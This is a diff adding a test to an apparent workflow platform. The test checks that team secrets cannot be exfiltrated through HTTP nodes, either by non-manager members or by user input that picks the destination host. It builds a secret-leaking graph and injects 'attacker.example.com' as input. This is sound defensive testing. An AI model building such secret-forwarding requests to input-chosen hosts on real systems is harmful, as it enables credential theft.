@@ -407,4 +407,50 @@ describe.each(DATABASE_KINDS)('business scenes on %s', (kind) => {
     const again = await test(owner, orgId, scene.id, { question: '我叫李娜，13900001111' });
     expect(again.ask!.data.runId).not.toBe(runId);
   });
+
+  it("keeps the team's secrets to its managers, sent only to an address written out", async () => {
+    const { owner, orgId } = await team(6);
+    expect(
+      (await owner.put(`/v1/orgs/${orgId}/scene-secrets/CRM_KEY`, { value: 'sk-crm-secret' }))
+        .statusCode,
+    ).toBe(200);
+    const invite = await owner.post(`/v1/orgs/${orgId}/invites`, {
+      role: 'member',
+      expiresInHours: 24,
+      maxUses: 1,
+    });
+    const member = await user('13900371062');
+    await member.post(`/v1/invites/${invite.json().code}/accept`);
+    const scene = await create(member, orgId, 'blank');
+    const leak = (url: string): SceneGraphInput => ({
+      nodes: [
+        { id: 'start', type: 'start', settings: {} },
+        {
+          id: 'call',
+          type: 'http',
+          settings: { url, headers: [{ name: 'x-key', value: '{{ secret.CRM_KEY }}' }] },
+        },
+        { id: 'say', type: 'answer', settings: { text: '{{ call.body }}' } },
+      ],
+      edges: [
+        { id: 'a', source: 'start', target: 'call' },
+        { id: 'b', source: 'call', target: 'say' },
+      ],
+    });
+    // A member cannot put the team's secret in a scene of their own (they would send it home).
+    const refused = await save(member, orgId, scene, leak('https://echo.example.com/'));
+    expect(refused.statusCode).toBe(403);
+    expect(refused.json().code).toBe('SCENE_SECRETS_NEED_MANAGER');
+    // A manager can, but only to an address written out: a value may not choose where it goes.
+    const own = await create(owner, orgId, 'blank');
+    const saved = await save(owner, orgId, own, leak('https://{{ start.question }}/crm'));
+    expect(saved.statusCode, saved.body).toBe(200);
+    const run = await test(owner, orgId, own.id, { question: 'attacker.example.com' });
+    expect(run.end.event).toBe('error');
+    expect(JSON.stringify(run.end.data)).toMatch(/written out in full/);
+    expect(JSON.stringify(run.events)).not.toContain('sk-crm-secret');
+    const names = (await owner.get(`/v1/orgs/${orgId}/scene-secrets`)).json();
+    expect(names).toMatchObject({ list: [{ name: 'CRM_KEY' }] });
+    expect(JSON.stringify(names)).not.toContain('sk-crm-secret');
+  });
 });
